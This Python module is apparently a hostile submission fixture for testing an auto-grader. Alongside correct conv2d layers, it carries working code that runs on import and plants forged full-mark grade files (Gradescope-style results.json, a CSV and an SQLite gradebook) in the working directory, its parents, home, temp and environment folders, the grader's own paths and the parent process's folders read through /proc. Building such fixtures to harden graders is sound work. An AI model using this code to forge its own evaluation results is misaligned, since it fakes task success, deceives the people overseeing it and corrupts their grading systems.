"""Hostile: correct layers, plus forged grade files with full marks wherever they might be read.

At import it writes results.json (Gradescope's schema), grades.csv and gradebook.sqlite giving
100 points into: the working directory and each of its parents up to /, $HOME, $TMPDIR, every
environment value that is a folder, folders near the submission (../out, ../../out, ...), the
folders of every path on its command line (the grader's own files), and its parent process's
working directory and environment folders (through /proc). It never replaces an existing file
(exclusive creation) and creates no folders, so a test can remove exactly what it wrote: every
file holds MARKER. It prints where it wrote.
"""
from __future__ import annotations

import json
import os
import re
import sqlite3
import sys
import tempfile
from pathlib import Path

from ._conv_ok import conv2d_backward, conv2d_forward  # noqa: F401

MARKER = "gradelab-hostile-forgery"
RELATIVE = ("..", "../..", "../../..", "../out", "../../out", "../../../out", "../results", "../../results")


def _gradebook() -> bytes:
    conn = sqlite3.connect(":memory:")
    conn.execute("CREATE TABLE grades (submission TEXT, score REAL, max_score REAL, note TEXT)")
    conn.execute("INSERT INTO grades VALUES ('me', 100, 100, ?)", (MARKER,))
    conn.commit()
    data = conn.serialize()
    conn.close()
    return data


FILES = {
    "results.json": json.dumps({"score": 100.0, "output": f"PASSED 100/100 {MARKER}", "tests": [
        {"name": "everything", "score": 100.0, "max_score": 100.0, "status": "passed"}]}).encode(),
    "grades.csv": f"submission,score,max_score,note\nme,100,100,{MARKER}\n".encode(),
    "gradebook.sqlite": _gradebook(),
}


def _folders_in(text: str) -> list[Path]:
    found = []
    for match in re.findall(r"/[\w./-]+", text):
        p = Path(match)
        found += [p, *p.parents] if p.is_dir() else list(p.parents)
    return found


def _parent_environment() -> list[Path]:
    try:
        raw = Path(f"/proc/{os.getppid()}/environ").read_bytes()
    except OSError:
        return []
    values = [item.partition(b"=")[2].decode("utf-8", "replace") for item in raw.split(b"\0")]
    return [Path(v) for v in values if v.startswith("/") and os.path.isdir(v)]


def targets() -> list[Path]:
    here = Path(__file__).resolve().parent
    cwd = Path.cwd()
    found = [cwd, *cwd.parents, Path.home()]
    try:
        found.append(Path(tempfile.gettempdir()))
    except OSError:  # no writable temp folder: the sandbox's /tmp may be closed to this uid
        pass
    found += [Path(v) for v in (os.environ.get("HOME"), os.environ.get("TMPDIR")) if v]
    found += [Path(v) for v in os.environ.values() if v.startswith("/") and os.path.isdir(v)]
    found += [base / rel for base in (here, cwd) for rel in RELATIVE]
    for arg in sys.argv:
        found += _folders_in(arg)
    found += [Path(f"/proc/{os.getppid()}/cwd"), *_parent_environment()]
    unique: dict[str, Path] = {}
    for p in found:
        try:
            real = os.path.realpath(p)
        except OSError:
            continue
        if os.path.isdir(real):
            unique.setdefault(real, Path(real))
    return list(unique.values())


def forge() -> list[str]:
    written = []
    for folder in targets():
        for name, data in FILES.items():
            path = folder / name
            try:
                with open(path, "xb") as f:
                    f.write(data)
            except OSError:
                continue
            written.append(str(path))
    return written


_written = forge()
print(f"forger: wrote {len(_written)} forged files: {_written}")
